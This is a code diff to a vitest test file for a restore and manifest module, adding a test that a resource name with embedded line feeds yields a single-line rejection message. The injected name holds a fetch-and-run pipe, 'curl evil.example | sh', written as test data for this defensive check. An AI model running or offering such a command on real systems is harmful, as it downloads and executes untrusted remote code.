@@ -2,7 +2,7 @@ import { createHash } from "node:crypto";
 import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { describe, expect, test } from "vitest";
-import { rejectedCode } from "../../unit/restore/expectations.ts";
+import { rejectedCode, rejectedError } from "../../unit/restore/expectations.ts";
 import { aescbc, buildManifest, newKey, oldKey, readObjects } from "../../unit/restore/manifest-builder.ts";
 import { signature } from "../../unit/restore/memory-store.ts";
 import {
@@ -207,6 +207,12 @@ describe("the whole proof, with the keys that are rendered, comes before the URL
       expect(written()).toEqual([]);
     },
   );
+
+  test("line feeds in a resource that a record counts make no lines", async () => {
+    const record = { ...buildRecord(), contents: { "x\n\n  curl evil.example | sh": 1 } };
+    const { message } = await rejectedError(prepare({ store: { record } }).run());
+    expect(message).toMatch(/^[^\n]*curl[^\n]*$/);
+  });
 
   test("nothing of the snapshot stays in the folder of temporary files", async () => {
     const { run, temp } = prepare();
